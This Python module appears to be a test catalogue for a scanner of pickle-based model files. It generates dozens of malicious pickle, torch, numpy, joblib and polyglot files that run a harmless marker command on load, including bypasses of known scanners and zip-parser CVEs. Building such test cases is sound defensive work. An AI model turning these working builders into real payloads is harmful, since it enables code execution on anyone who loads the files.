"""The attack catalogue: one generated file per technique, with how a victim loads it.

Each ``Attack`` builds its file in a folder, names the loader that a victim would use
(``pickle``, ``pickle-all``, ``torch``, ``numpy``, ``joblib``), and says which rules the
scanner must raise. ``fires`` is False only for files that no standard loader executes
(records torch never reads, say): the scanner still refuses them, because other tools and
future loaders might read them, and the test says so.
"""

from __future__ import annotations

import bz2
import functools
import gzip
import io
import lzma
import marshal
import os
import pickle
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.scanner import _builders as B

Builder = Callable[[Path, str], bytes]


@dataclass(frozen=True)
class Attack:
    id: str
    build: Builder  # (folder, marker name) -> file content
    loader: str
    rules: frozenset[str]  # every one of these must be among the blocking findings
    setup: str = ""  # code the victim process runs first (an extension registry entry)
    fires: bool = True
    suffix: str = ".bin"


ATTACKS: list[Attack] = []


def attack(id: str, loader: str, *rules: str, setup: str = "", fires: bool = True,
           suffix: str = ".bin") -> Callable[[Builder], Builder]:
    def register(fn: Builder) -> Builder:
        ATTACKS.append(Attack(id, fn, loader, frozenset(rules), setup, fires, suffix))
        return fn
    return register


def cmd(marker: str) -> str:
    return B.marker_cmd(marker)


def py_touch(marker: str) -> str:
    """Python source that creates the marker."""
    return f"open({marker!r}, 'w').close()"


S = B.string_op
U = B.binunicode
G = B.global_op
SG = B.stack_global

# --- opcode forms and protocols -------------------------------------------------------------

for _proto in range(6):
    def _reduce_proto(d: Path, m: str, proto: int = _proto) -> bytes:
        return pickle.dumps(B.Reduce(os.system, cmd(m)), protocol=proto)
    attack(f"os_system_protocol_{_proto}", "pickle", "SH100")(_reduce_proto)


@attack("builtin_eval_py2_spelling", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return G("__builtin__", "eval") + b"(" + S(f"__import__('os').system('{cmd(m)}')") + b"tR."


@attack("builtins_exec", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return b"\x80\x04" + SG("builtins", "exec") + U(py_touch(m)) + b"\x85R."


@attack("stack_global_via_memo", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    # picklescan issue #22: the names travel through the memo, away from STACK_GLOBAL.
    return (b"\x80\x04" + U("posix") + b"q\x00" + U("system") + b"q\x01" + b"00"
            + U("collections") + U("OrderedDict") + b"0" + b"0"
            + b"h\x00h\x01\x93" + U(cmd(m)) + b"\x85R.")


@attack("stack_global_memoize_mixed_with_put", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    # picklescan issue #14: MEMOIZE and BINPUT mixed so that naive memo tracking misnumbers.
    return (b"\x80\x04" + U("posix") + b"q\x05" + U("torch._utils") + b"\x94"
            + U("system") + b"q\x06" + b"000" + b"h\x05h\x06\x93" + U(cmd(m)) + b"\x85R.")


@attack("stack_global_fed_by_string_opcodes", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    # GHSA-9gvj-pp9x-gcfr: protocol-0 STRING/BINSTRING feed STACK_GLOBAL.
    return (b"\x80\x04" + S("posix") + b"U\x06system" + b"\x93" + S(cmd(m)) + b"\x85R.")


@attack("global_text_opcode_in_protocol_4", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return b"\x80\x04\x95\x00\x00\x00\x00\x00\x00\x00\x00" + G("posix", "system") + U(cmd(m)) \
        + b"\x85R."


@attack("inst_opcode", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return b"(" + S(cmd(m)) + b"iposix\nsystem\n."


@attack("obj_opcode", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return b"(" + G("posix", "system") + S(cmd(m)) + b"o."


@attack("newobj_partial", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    # NEWOBJ runs cls.__new__: functools.partial.__new__ binds the payload, REDUCE calls it.
    return (b"\x80\x02" + G("functools", "partial") + G("posix", "system") + S(cmd(m))
            + b"\x86\x81)R.")


@attack("newobj_ex_partial", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return (b"\x80\x04" + SG("functools", "partial") + SG("posix", "system") + U(cmd(m))
            + b"\x86}\x92)R.")


@attack("reduce_result_discarded_with_pop", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    # fickling AST-vanishing report: the call's result is POPped, a benign dict returned.
    return B.call_prefix(m) + b"}."


@attack("computed_name_rot13", "pickle", "SH102")
def _(d: Path, m: str) -> bytes:
    # The module name is computed by an ALLOWED function: _codecs.encode('bf', 'rot13').
    return (b"\x80\x04" + SG("_codecs", "encode") + U("bf") + U("rot13") + b"\x86R"
            + U("system") + b"\x93" + U(cmd(m)) + b"\x85R.")


@attack("computed_name_through_memo", "pickle", "SH102")
def _(d: Path, m: str) -> bytes:
    return (b"\x80\x04" + SG("_codecs", "encode") + U("cbfvk") + U("rot13") + b"\x86R\x94"
            + b"0" + SG("_codecs", "encode") + U("flfgrz") + U("rot13") + b"\x86R\x94" + b"0"
            + b"h\x00h\x01\x93" + U(cmd(m)) + b"\x85R.")


@attack("extension_registry_ext1", "pickle", "SH103",
        setup="import copyreg; copyreg.add_extension('posix', 'system', 0x42)")
def _(d: Path, m: str) -> bytes:
    return b"\x80\x02\x82\x42" + S(cmd(m)) + b"\x85R."


@attack("extension_registry_ext4", "pickle", "SH103",
        setup="import copyreg; copyreg.add_extension('os', 'system', 0x7fff0001)")
def _(d: Path, m: str) -> bytes:
    return b"\x80\x02\x84" + struct.pack("<i", 0x7FFF0001) + S(cmd(m)) + b"\x85R."


# --- resolvers ------------------------------------------------------------------------------


@attack("builtins_getattr_import", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return (b"\x80\x04" + SG("builtins", "getattr") + SG("builtins", "__import__") + U("os")
            + b"\x85R" + U("system") + b"\x86R" + U(cmd(m)) + b"\x85R.")


@attack("operator_attrgetter", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return (b"\x80\x04" + SG("operator", "attrgetter") + U("system") + b"\x85R"
            + SG("builtins", "__import__") + U("os") + b"\x85R\x85R" + U(cmd(m)) + b"\x85R.")


@attack("operator_methodcaller_pydoc", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return (b"\x80\x04" + SG("_operator", "methodcaller") + U("system") + U(cmd(m)) + b"\x86R"
            + SG("pydoc", "locate") + U("os") + b"\x85R\x85R.")


@attack("pydoc_locate", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return (b"\x80\x04" + SG("pydoc", "locate") + U("os.system") + b"\x85R" + U(cmd(m))
            + b"\x85R.")


@attack("pkgutil_resolve_name", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return (b"\x80\x04" + SG("pkgutil", "resolve_name") + U("os:system") + b"\x85R"
            + U(cmd(m)) + b"\x85R.")


@attack("importlib_import_module", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return (b"\x80\x04" + SG("builtins", "getattr") + SG("importlib", "import_module")
            + U("os") + b"\x85R" + U("system") + b"\x86R" + U(cmd(m)) + b"\x85R.")


@attack("functools_partial_wrapper", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return pickle.dumps(B.Reduce(functools.partial(os.system, cmd(m))), protocol=2)[:-1] \
        + b")R."


# --- stdlib gadgets -------------------------------------------------------------------------


@attack("timeit", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return (b"\x80\x04" + SG("timeit", "timeit") + b"(" + U(f"__import__('os').system('{cmd(m)}')")
            + U("pass") + SG("time", "perf_counter") + b"K\x01tR.")


@attack("cprofile_run", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return b"\x80\x04" + SG("cProfile", "run") + U(py_touch(m)) + b"\x85R."


@attack("runpy_run_code", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return b"\x80\x04" + SG("runpy", "_run_code") + U(py_touch(m)) + b"}\x86R."


@attack("code_interactive_interpreter", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return (b"\x80\x04" + SG("builtins", "getattr") + SG("code", "InteractiveInterpreter")
            + b")R" + U("runsource") + b"\x86R" + U(py_touch(m)) + b"\x85R.")


@attack("pty_spawn", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return b"\x80\x04" + SG("pty", "spawn") + b"]" + b"(" + U("touch") + U(m) + b"e\x85R."


@attack("subprocess_popen", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return b"\x80\x04" + SG("subprocess", "check_call") + b"](" + U("touch") + U(m) + b"e\x85R."


@attack("multiprocessing_spawnv_passfds", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return (b"\x80\x04" + SG("multiprocessing.util", "spawnv_passfds") + b"C\x07/bin/sh"
            + b"](C\x02shC\x02-c" + b"C" + bytes([len(cmd(m))]) + cmd(m).encode() + b"e)\x87R.")


@attack("osx_support_read_output", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return b"\x80\x04" + SG("_osx_support", "_read_output") + U(cmd(m)) + b"\x85R."


@attack("shutil_copyfile", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return b"\x80\x04" + SG("shutil", "copyfile") + U("/dev/null") + U(m) + b"\x86R."


@attack("logging_filehandler", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return b"\x80\x04" + SG("logging", "FileHandler") + U(m) + b"\x85R."


@attack("webbrowser_open", "pickle", "SH100",
        setup="import os; os.environ['BROWSER'] = 'touch %s'")
def _(d: Path, m: str) -> bytes:
    return b"\x80\x04" + SG("webbrowser", "open") + U(m) + b"\x85R."


@attack("numpy_testing_runstring", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return (b"\x80\x04" + SG("numpy.testing._private.utils", "runstring") + U(py_touch(m))
            + b"}\x86R.")


@attack("marshal_function_type", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    code = marshal.dumps(compile(py_touch(m), "<p>", "exec"))
    return (b"\x80\x04" + SG("types", "FunctionType") + SG("marshal", "loads")
            + b"B" + struct.pack("<I", len(code)) + code + b"\x85R}\x86R)R.")


@attack("ctypes_libc_system", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return (b"\x80\x04" + SG("builtins", "getattr") + SG("ctypes", "CDLL") + b"N\x85R"
            + U("system") + b"\x86R" + b"C" + bytes([len(cmd(m))]) + cmd(m).encode()
            + b"\x85R.")


@attack("pip_main", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    # CVE-2025-1716: pip.main runs pip (here `pip list --log MARKER`, which writes the log).
    return b"\x80\x04" + SG("pip", "main") + b"](" + U("list") + U("--log") + U(m) + b"e\x85R."


# --- torch gadgets --------------------------------------------------------------------------


def _hubconf(d: Path, m: str) -> str:
    repo = d / f"hub_{m}"
    repo.mkdir(exist_ok=True)
    (repo / "hubconf.py").write_text(f"{py_touch(m)}\ndependencies = []\n"
                                     "def model():\n    return None\n")
    return os.fspath(repo)


@attack("torch_hub_load_local", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return b"\x80\x04" + SG("torch.hub", "_load_local") + U(_hubconf(d, m)) + U("model") \
        + b"\x86R."


@attack("torch_hub_load_partial_kwargs_in_build_state", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    # functools.partial's __setstate__ receives torch.hub.load plus keyword arguments.
    return (b"\x80\x04" + SG("functools", "partial") + SG("builtins", "print") + b"\x85R"
            + b"(" + SG("torch.hub", "load") + b"(" + U(_hubconf(d, m)) + U("model") + b"t"
            + b"}(" + U("source") + U("local") + U("trust_repo") + b"\x88u" + b"Nt" + b"b"
            + b")R.")


@attack("torch_jit_execwrapper", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return (b"\x80\x04" + SG("torch.jit.unsupported_tensor_ops", "execWrapper")
            + U(py_touch(m)) + b"}}\x87R.")


@attack("torch_fx_forward_from_src", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    return (b"\x80\x04" + SG("torch.fx.graph_module", "_forward_from_src")
            + U(f"{py_touch(m)}\ndef forward(self): pass\n") + b"}\x86R.")


@attack("torch_inductor_pycodecache", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    # A dotted name resolved by protocol-4 find_class: PyCodeCache.load imports source.
    return (b"\x80\x04" + SG("torch._inductor.codecache", "PyCodeCache.load")
            + U(f"{py_touch(m)}  # {m}\n") + b"\x85R.")


@attack("torch_load_from_bytes_nested", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    inner = B.os_system_p0(m)
    return (b"\x80\x04" + SG("torch.storage", "_load_from_bytes") + b"C" + bytes([len(inner)])
            + inner + b"\x85R.")


# --- nested loaders -------------------------------------------------------------------------


@attack("pickle_loads_nested", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    inner = B.os_system_p0(m)
    return b"\x80\x04" + SG("pickle", "loads") + b"C" + bytes([len(inner)]) + inner + b"\x85R."


@attack("numpy_load_nested_file", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    import numpy as np

    inner = d / f"{m}_inner.npy"
    np.save(inner, np.array([B.Reduce(os.system, cmd(m))], dtype=object), allow_pickle=True)
    return (b"\x80\x04" + SG("numpy", "load") + U(os.fspath(inner)) + b"N\x88\x87R.")


@attack("joblib_load_nested_file", "pickle", "SH100")
def _(d: Path, m: str) -> bytes:
    inner = B.write(d / f"{m}_inner.pkl", B.os_system_p0(m))
    return b"\x80\x04" + SG("joblib", "load") + U(inner) + b"\x85R."


# --- streams --------------------------------------------------------------------------------


@attack("payload_after_stop", "pickle-all", "SH112", "SH100")
def _(d: Path, m: str) -> bytes:
    return pickle.dumps({"weights": [1.0, 2.0]}, protocol=2) + B.os_system_p0(m)


@attack("broken_pickle_nullifai", "pickle", "SH110", "SH100")
def _(d: Path, m: str) -> bytes:
    # nullifAI (ReversingLabs, 2025): the payload runs, then the stream breaks.
    return b"\x80\x02" + B.call_prefix(m) + b"\xff"


@attack("truncated_after_payload", "pickle", "SH111", "SH100")
def _(d: Path, m: str) -> bytes:
    return B.call_prefix(m) + b"X\xff\x00\x00\x00ab"


# --- torch zip checkpoints ------------------------------------------------------------------


def _sd() -> dict[str, object]:
    import torch

    return {"w": torch.ones(2, 3), "b": torch.zeros(3)}


def _zip(members: list[B.ZipMember], **kw: object) -> bytes:
    return B.build_zip(members, **kw).data  # type: ignore[arg-type]


def _with_pkl(m: str, *, name: str = "archive/data.pkl", **fields: object) -> list[B.ZipMember]:
    members = B.torch_zip_members(_sd())
    for i, mem in enumerate(members):
        if mem.name == "archive/data.pkl":
            members[i] = B.ZipMember(name, B.call_prefix(m) + mem.data, **fields)  # type: ignore[arg-type]
    return members


@attack("torchzip_payload_in_data_pkl", "torch", "SH100", suffix=".pt")
def _(d: Path, m: str) -> bytes:
    members = B.torch_zip_members(_sd())
    for mem in members:
        if mem.name.endswith("data.pkl"):
            mem.data = B.os_system_p0(m)
    return _zip(members)


@attack("torchzip_injected_state_dict", "torch", "SH100", suffix=".pth")
def _(d: Path, m: str) -> bytes:
    return _zip(_with_pkl(m))


@attack("torchzip_deflated_data_pkl", "torch", "SH100", suffix=".pt")
def _(d: Path, m: str) -> bytes:
    return _zip(_with_pkl(m, method=8))


@attack("torchzip_any_record_prefix", "torch", "SH100", suffix=".pt")
def _(d: Path, m: str) -> bytes:
    members = [B.ZipMember(x.name.replace("archive/", "model.safetensors/"), x.data)
               for x in _with_pkl(m)]
    return _zip(members)


@attack("torchzip_local_name_mismatch", "torch", "SH115", "SH100", suffix=".pt")
def _(d: Path, m: str) -> bytes:
    # CVE-2025-1944: zipfile refuses the archive, torch (miniz) loads it.
    return _zip(_with_pkl(m, local_name="archive/data.pkX"))


@attack("torchzip_encrypted_flag_local_only", "torch", "SH115", "SH100", suffix=".pt")
def _(d: Path, m: str) -> bytes:
    # CVE-2025-1945: general-purpose bit 0 in the local header only.
    return _zip(_with_pkl(m, local_flags=1))


@attack("torchzip_bad_crc", "torch", "SH100", suffix=".pt")
def _(d: Path, m: str) -> bytes:
    # CVE-2025-10156: zipfile raises on the CRC, torch does not check it.
    return _zip(_with_pkl(m, crc=0x12345678))


def _duplicate(m: str, name: str) -> bytes:
    # miniz finds a name by binary search in its sorted directory: which duplicate wins
    # depends on where the records sit (here, in the middle, the payload does).
    members = B.torch_zip_members(_sd())
    evil = next(x for x in _with_pkl(m) if x.name.endswith("data.pkl"))
    evil.name = name
    return _zip([*members[:3], evil, *members[3:]])


@attack("torchzip_duplicate_name", "torch", "SH115", "SH100", suffix=".pt")
def _(d: Path, m: str) -> bytes:
    return _duplicate(m, "archive/data.pkl")


@attack("torchzip_case_insensitive_duplicate", "torch", "SH115", "SH100", suffix=".pt")
def _(d: Path, m: str) -> bytes:
    return _duplicate(m, "archive/DATA.PKL")


@attack("torchzip_extra_pkl_record", "torch", "SH100", fires=False, suffix=".pt")
def _(d: Path, m: str) -> bytes:
    return _zip([*B.torch_zip_members(_sd()), B.ZipMember("archive/extra.pkl",
                                                          B.os_system_p0(m))])


@attack("torchzip_hidden_pickle_record", "torch", "SH100", fires=False, suffix=".pt")
def _(d: Path, m: str) -> bytes:
    hidden = pickle.dumps(B.Reduce(os.system, cmd(m)), protocol=2)
    return _zip([*B.torch_zip_members(_sd()), B.ZipMember("archive/tokenizer", hidden)])


@attack("pickle_before_zip_polyglot", "torch", "SH114", "SH100", suffix=".pt")
def _(d: Path, m: str) -> bytes:
    # torch.load sees no zip magic at byte 0 and unpickles the prefix.
    return _zip(B.torch_zip_members(_sd()), prefix=B.os_system_p0(m))


# --- torch legacy format --------------------------------------------------------------------

for _k in range(5):
    def _legacy_stream(d: Path, m: str, k: int = _k) -> bytes:
        streams, rest = B.legacy_streams(B.torch_legacy_bytes(_sd()))
        streams[k] = B.call_prefix(m) + streams[k]
        return b"".join(streams) + rest
    attack(f"legacy_payload_in_stream_{_k}", "torch", "SH100", suffix=".pt")(_legacy_stream)


@attack("legacy_magic_via_eval", "torch", "SH100", suffix=".pt")
def _(d: Path, m: str) -> bytes:
    streams, rest = B.legacy_streams(B.torch_legacy_bytes(_sd()))
    magic = (G("builtins", "eval") + b"(" + S(f"__import__('os').system('{cmd(m)}') or "
                                              "0x1950a86a20f9469cfc6c") + b"tR.")
    return magic + b"".join(streams[1:]) + rest


# --- torch tar format -----------------------------------------------------------------------


@attack("tar_payload_in_pickle_member", "torch", "SH100", suffix=".pt")
def _(d: Path, m: str) -> bytes:
    return B.torch_tar_bytes(B.os_system_p0(m))


@attack("tar_payload_in_storages_member", "torch", "SH100", suffix=".pt")
def _(d: Path, m: str) -> bytes:
    storages = B.call_prefix(m) + pickle.dumps(0, 2) + pickle.dumps([], 2)
    return B.torch_tar_bytes(pickle.dumps({}, 2), storages=storages)


@attack("tar_payload_in_tensors_member", "torch", "SH100", suffix=".pt")
def _(d: Path, m: str) -> bytes:
    return B.torch_tar_bytes(pickle.dumps({}, 2), tensors=B.call_prefix(m) + pickle.dumps(0, 2))


@attack("tar_pickle_member_is_hard_link", "torch", "SH114", suffix=".pt")
def _(d: Path, m: str) -> bytes:
    return B.tar_bytes([("storages", pickle.dumps(0, 2) + pickle.dumps([], 2)),
                        ("tensors", pickle.dumps(0, 2)), ("payload", B.os_system_p0(m))],
                       links=[("pickle", "payload")])


@attack("tar_v7_without_magic", "torch", "SH100", suffix=".pt")
def _(d: Path, m: str) -> bytes:
    return B.v7_header(B.torch_tar_bytes(B.os_system_p0(m)))


@attack("tar_name_field_is_a_pickle", "pickle", "SH114", "SH100", suffix=".tar")
def _(d: Path, m: str) -> bytes:
    # pickle.load (and joblib.load) read a tar from byte 0: the first member's name.
    name = B.os_system_p0(m).decode()
    return B.tar_bytes([(name, b"x"), ("pickle", pickle.dumps({}, 2))])


# --- numpy ----------------------------------------------------------------------------------


def _obj_array(m: str) -> object:
    import numpy as np

    return np.array([B.Reduce(os.system, cmd(m)), 1], dtype=object)


@attack("npy_object_array", "numpy", "SH100", suffix=".npy")
def _(d: Path, m: str) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, _obj_array(m), allow_pickle=True)
    return buf.getvalue()


@attack("npy_structured_object_field", "numpy", "SH100", suffix=".npy")
def _(d: Path, m: str) -> bytes:
    import numpy as np

    arr = np.zeros(1, dtype=[("a", "O"), ("b", "<f4", (2,))])
    arr["a"][0] = B.Reduce(os.system, cmd(m))
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=True)
    return buf.getvalue()


@attack("npy_version_3_header", "numpy", "SH100", suffix=".npy")
def _(d: Path, m: str) -> bytes:
    body = pickle.dumps(_obj_array(m), protocol=3)
    return B.npy_bytes("{'descr': '|O', 'fortran_order': False, 'shape': (2,), }", body,
                       version=3)


def _npz(members: list[tuple[str, bytes, int]], **kw: object) -> bytes:
    return _zip([B.ZipMember(n, data, method=meth) for n, data, meth in members], **kw)


def _npy_evil(m: str) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, _obj_array(m), allow_pickle=True)
    return buf.getvalue()


def _npy_plain() -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, np.arange(4.0))
    return buf.getvalue()


@attack("npz_object_member", "numpy", "SH100", suffix=".npz")
def _(d: Path, m: str) -> bytes:
    return _npz([("x.npy", _npy_evil(m), 0)])


@attack("npz_second_member_deflated", "numpy", "SH100", suffix=".npz")
def _(d: Path, m: str) -> bytes:
    return _npz([("a.npy", _npy_plain(), 0), ("b.npy", _npy_evil(m), 8)])


@attack("npz_bzip2_member", "numpy", "SH116", suffix=".npz")
def _(d: Path, m: str) -> bytes:
    return _npz([("a.npy", _npy_plain(), 0), ("b.npy", _npy_evil(m), 12)])


@attack("npz_lzma_member", "numpy", "SH116", suffix=".npz")
def _(d: Path, m: str) -> bytes:
    return _npz([("a.npy", _npy_plain(), 0), ("b.npy", _npy_evil(m), 14)])


@attack("npz_member_beyond_entry_count", "numpy", "SH115", "SH100", suffix=".npz")
def _(d: Path, m: str) -> bytes:
    # zipfile reads every record in the directory's size; miniz only `count` of them.
    return _npz([("a.npy", _npy_plain(), 0), ("b.npy", _npy_evil(m), 0)], count=1)


@attack("npz_decoy_end_record", "numpy", "SH115", "SH100", suffix=".npz")
def _(d: Path, m: str) -> bytes:
    real = B.build_zip([B.ZipMember("a.npy", _npy_plain()), B.ZipMember("b.npy", _npy_evil(m))],
                       comment_len=1)
    locals_end = real.central_offset
    central = real.data[locals_end:real.eocd_offset]
    first = central[: 46 + len("a.npy")]  # a directory of the harmless member only
    moved = locals_end + len(first) + 22  # where the real directory now starts
    real_eocd = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 2, 2, len(central), moved, 1)
    decoy_eocd = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(first),
                             locals_end, len(central) + len(real_eocd))
    # Its comment "fits" only the decoy's comment length; the real one claims one byte more.
    return real.data[:locals_end] + first + decoy_eocd + central + real_eocd


@attack("pickle_before_npz", "numpy", "SH100", suffix=".npz")
def _(d: Path, m: str) -> bytes:
    # numpy.load sees no zip magic at byte 0: with allow_pickle it unpickles the prefix.
    return _npz([("a.npy", _npy_plain(), 0)], prefix=B.os_system_p0(m))


# --- joblib ---------------------------------------------------------------------------------


@attack("joblib_payload_before_arrays", "joblib", "SH100", suffix=".joblib")
def _(d: Path, m: str) -> bytes:
    import joblib
    import numpy as np

    buf = io.BytesIO()
    joblib.dump({"w": np.arange(8.0)}, buf)
    return B.call_prefix(m) + buf.getvalue()


@attack("joblib_object_array_nested_stream", "joblib", "SH100", suffix=".joblib")
def _(d: Path, m: str) -> bytes:
    import joblib

    buf = io.BytesIO()
    joblib.dump({"o": _obj_array(m)}, buf)
    return buf.getvalue()


for _comp in ("zlib", "gzip", "bz2", "lzma", "xz"):
    def _joblib_compressed(d: Path, m: str, comp: str = _comp) -> bytes:
        import joblib
        import numpy as np

        path = d / f"{m}.tmp"
        joblib.dump({"w": np.arange(4.0), "p": B.Reduce(os.system, cmd(m))}, path,
                    compress=(comp, 3))
        return path.read_bytes()
    attack(f"joblib_compressed_{_comp}", "joblib", "SH100", suffix=".joblib")(
        _joblib_compressed)


@attack("joblib_old_zf_format", "joblib", "SH100", suffix=".pkl")
def _(d: Path, m: str) -> bytes:
    # joblib < 0.10: 'ZF', the hex length padded to 19 bytes, zlib data.
    data = B.os_system_p0(m)
    return b"ZF" + f"{len(data):x}".ljust(19).encode() + zlib.compress(data)


# --- safetensors polyglot -------------------------------------------------------------------


@attack("safetensors_that_is_a_pickle", "pickle", "SH114", "SH100", suffix=".safetensors")
def _(d: Path, m: str) -> bytes:
    return safetensors_pickle_polyglot(B.os_system_p0(m))


def safetensors_pickle_polyglot(payload: bytes) -> bytes:
    """A valid safetensors file whose bytes, read as a pickle, run ``payload``.

    Byte 0 of the header length is 'U' (SHORT_BINSTRING) and byte 1 its length, so the
    string swallows the rest of the length and the JSON's start; inside a JSON string, more
    'U' strings with printable lengths hop to the end of the header, and the tensor data
    (the bytes of a U8 tensor) is the payload.
    """
    open_ = b'{"__metadata__":{"k":"'
    first = 6 + len(open_)
    n = 0x55 + (first << 8)  # the header length's bytes: 'U', chr(first), then zeros
    size = str(len(payload)).encode()
    tensor = (b'"},"t":{"dtype":"U8","shape":[' + size + b'],"data_offsets":[0,' + size
              + b"]}}")

    def ok(k: int) -> bool:  # a length byte that may stand inside a JSON string
        return 0x20 <= k <= 0x7E and k not in (0x22, 0x5C)

    total = n - len(open_)  # hops, then the final string holding the JSON's end
    for pad in range(0, 0x7E - len(tensor) + 1):
        rest = total - (2 + len(tensor) + pad)
        hops = -(-rest // 0x7C) if rest > 0 else 0
        if hops and not (hops * 0x24 <= rest <= hops * 0x7C):
            continue
        sizes = [rest // hops + (i < rest % hops) for i in range(hops)] if hops else []
        if all(ok(k - 2) for k in sizes) and ok(len(tensor) + pad):
            break
    else:
        raise AssertionError("no layout")
    body = b"".join(b"U" + bytes([k - 2]) + b"a" * (k - 2) for k in sizes)
    body += b"U" + bytes([len(tensor) + pad]) + tensor + b" " * pad
    header = open_ + body
    assert len(header) == n
    return struct.pack("<Q", n) + header + payload


ALL_IDS = [a.id for a in ATTACKS]
BY_ID = {a.id: a for a in ATTACKS}


def build_all(folder: Path) -> dict[str, Path]:
    """Write every attack file into ``folder``; id -> path."""
    paths = {}
    for a in ATTACKS:
        path = folder / f"{a.id}{a.suffix}"
        path.write_bytes(a.build(folder, a.id))
        paths[a.id] = path
    return paths


__all__ = ["ALL_IDS", "ATTACKS", "BY_ID", "Attack", "build_all", "bz2", "gzip", "lzma"]
